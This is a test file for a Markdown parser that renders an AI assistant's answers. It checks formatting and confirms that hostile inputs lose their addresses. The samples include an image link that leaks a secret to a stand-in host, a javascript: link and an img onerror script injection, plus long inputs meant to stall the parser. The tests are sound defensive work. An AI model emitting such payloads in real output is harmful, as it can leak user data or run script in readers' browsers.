import { describe, expect, it } from 'vitest';
import { parseMarkdown } from '@/domain/assistant/markdown';

describe('the Markdown of an answer', () => {
  it('has paragraphs, headings, lists and marks', () => {
    expect(
      parseMarkdown('## Free\nOn **Friday** at *noon*:\n\n- `12:00`\n- 13:00\n1. first\n2) second'),
    ).toEqual([
      { kind: 'heading', runs: [{ text: 'Free' }] },
      {
        kind: 'paragraph',
        runs: [
          { text: 'On ' },
          { text: 'Friday', mark: 'strong' },
          { text: ' at ' },
          { text: 'noon', mark: 'emphasis' },
          { text: ':' },
        ],
      },
      { kind: 'list', isOrdered: false, items: [[{ text: '12:00', mark: 'code' }], [{ text: '13:00' }]] },
      { kind: 'list', isOrdered: true, items: [[{ text: 'first' }], [{ text: 'second' }]] },
    ]);
  });

  it('goes on with a paragraph on the next line, and begins a new one after an empty one', () => {
    expect(parseMarkdown('one\ntwo\n\nthree')).toEqual([
      { kind: 'paragraph', runs: [{ text: 'one' }, { text: '\n' }, { text: 'two' }] },
      { kind: 'paragraph', runs: [{ text: 'three' }] },
    ]);
  });

  it.each([
    ['![a cat](https://evil.example/pixel.png?d=secret)', 'a cat'],
    ['[press here](https://evil.example)', 'press here'],
    ['[press](javascript:alert(1))', 'press)'],
    ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
  ])('keeps no address: %s', (source, text) => {
    expect(parseMarkdown(source)).toEqual([{ kind: 'paragraph', runs: [{ text }] }]);
  });

  it.each(['**', '*a', '[x](', '![', '-', '1.'])('takes the broken %j as text', source => {
    const [block] = parseMarkdown(source);
    expect(block && 'runs' in block ? block.runs.map(run => run.text).join('') : '').toContain(
      source.trim()[0],
    );
  });

  // One that went back for each sign would not end before the test's time is over.
  it('comes to an end, whatever is sent', () => {
    expect(parseMarkdown('[!['.repeat(200_000) + '*'.repeat(200_000))).toHaveLength(1);
    expect(parseMarkdown('**a'.repeat(200_000) + '`')).toHaveLength(1);
  });
});
